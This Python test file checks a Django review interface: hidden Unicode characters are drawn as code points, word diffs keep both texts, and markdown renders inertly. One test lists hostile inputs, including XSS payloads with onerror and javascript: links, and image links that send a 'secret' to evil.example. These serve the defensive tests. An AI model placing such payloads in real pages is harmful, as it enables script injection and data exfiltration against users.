"""Texts as an approver sees them: hidden characters drawn, markdown inert, changes word by word."""

import time

import pytest
from django.template.loader import render_to_string
from hypothesis import given
from hypothesis import strategies as st

from reviews.domain.hidden import hidden_names, pieces, spelled_out
from reviews.templatetags.review_ui import has_markdown, markdown, percent, visible
from routing.domain.differences import word_diff

HIDDEN = [
    "\u200b",
    "\u200d",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\u00ad",
    "\u3164",
    "\U000e0041",
    "\u2028",
    "\x07",
    "\r",
    "\ufe00",
    "\U000e0100",
]


@pytest.mark.parametrize("char", HIDDEN, ids=ascii)
def test_a_hidden_character_is_drawn_by_its_number(char: str) -> None:
    drawn = visible(f"a{char}b")
    assert char not in drawn
    assert f"U+{ord(char):04X}</span>" in drawn
    assert len(hidden_names(f"a{char}b{char}")) == 1


def test_ordinary_texts_of_any_script_are_drawn_as_they_are() -> None:
    text = "Grüße, 東京\tשלום\nनमस्ते ☕️ 1 234 €"  # noqa: RUF001
    assert str(visible(text)) == text


def test_the_line_ends_of_a_browser_s_form_hide_nothing() -> None:
    assert str(visible("one\r\ntwo")) == "one\r\ntwo"
    assert hidden_names("one\r\ntwo\rthree") == ["U+000D"]


@given(st.text())
def test_nothing_of_a_text_is_lost_and_nothing_hidden_stays(text: str) -> None:
    assert "".join(part for part, _ in pieces(text)) == text
    assert hidden_names(spelled_out(text)) == []


@given(st.text(), st.text())
def test_a_difference_holds_both_texts(before: str, after: str) -> None:
    parts = word_diff(before, after)
    assert "".join(part.text for part in parts if part.op != "added") == before
    assert "".join(part.text for part in parts if part.op != "removed") == after


def test_only_the_words_that_changed_are_marked() -> None:
    parts = [
        (part.op, part.text) for part in word_diff("Hello Kim, it leaves today.", "Hello Kim, it leaves tomorrow.")
    ]
    assert parts == [("same", "Hello Kim, it leaves "), ("removed", "today"), ("added", "tomorrow"), ("same", ".")]


def test_words_that_changed_side_by_side_are_marked_as_one() -> None:
    parts = [(part.op, part.text) for part in word_diff("It is on its way.", "It will leave today.")]
    assert parts == [("same", "It "), ("removed", "is on its way"), ("added", "will leave today"), ("same", ".")]


def test_long_texts_are_compared_quickly_by_line() -> None:
    before = "word and word\n" * 5_000
    assert [part.op for part in word_diff(before, before + "one more\n")] == ["same", "added"]


@pytest.mark.parametrize(
    "hostile",
    [
        "![pixel](https://evil.example/?secret)",
        "![pixel](//evil.example/x.png)",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](https://evil.example)",
        "<https://evil.example>",
        '<a href="//evil.example" hx-get="/x">a</a>',
        "</div></form><form action=//evil.example>",
        "<style>*{display:none}</style>",
        "![pixel][p]\n\n[p]: https://evil.example/x.png",
        "[click][l]\n\n[l]: //evil.example 'title'",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:x)",
        "[![pixel](https://evil.example/x.png)](https://evil.example)",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<img src=//evil.example>'></iframe>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "`<img src=x onerror=alert(1)>`",
        "<!-- --><script>alert(1)</script>",
        "https://evil.example www.evil.example",
    ],
)
def test_markdown_loads_nothing_and_links_nowhere(hostile: str) -> None:
    drawn = str(markdown(hostile))
    tags = {part.split(">")[0].split()[0].strip("/") for part in drawn.split("<")[1:]}
    assert tags <= {"p", "code", "em"}
    assert "=" not in "".join(part.split(">")[0] for part in drawn.split("<")[1:])


def test_markdown_keeps_what_it_does_not_draw_in_sight() -> None:
    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown("Hello <img src=x onerror=alert(1)>")
    assert "https://evil.example/?secret" in markdown("![pixel](https://evil.example/?secret)")


def test_markdown_draws_hidden_characters_by_their_number() -> None:
    drawn = markdown("**Pay \u202e49\u200b** [here](https://exa\u200bmple.org)")
    assert "Pay [U+202E]49[U+200B]" in drawn
    assert not set(drawn) & set(HIDDEN)


def test_what_was_changed_shows_what_hides_in_it_and_nothing_of_it_is_html() -> None:
    parts = word_diff("Hello Kim", "Hello <b>K\u200bim</b> \u202e!")
    drawn = render_to_string("components/diff.html", {"parts": parts})
    assert drawn.count('class="hidden-char"') == 2
    assert "<b>" not in drawn
    assert not set(drawn) & set(HIDDEN)


def test_markdown_says_where_a_link_would_lead() -> None:
    assert "our site <code>https://example.org/a</code>" in markdown("See **[our site](https://example.org/a)**.")
    assert has_markdown("See **this**")
    assert not has_markdown("Hello Kim,\n\nit is 3 * 4 = 12.\n\nBye")


def test_a_share_is_said_in_percent() -> None:
    assert [percent(share) for share in ("0.62", "1", "", "much")] == ["62%", "100%", "", ""]


@pytest.mark.parametrize("piece", ["a\n", "a b ", "ab\nc "])
def test_texts_that_repeat_themselves_are_compared_quickly(piece: str) -> None:
    longest = piece * (100_000 // len(piece))
    begun = time.process_time()

    parts = word_diff(f"one {longest}", f"two {longest}c")

    assert time.process_time() - begun < 3
    assert "".join(part.text for part in parts if part.op != "removed") == f"two {longest}c"
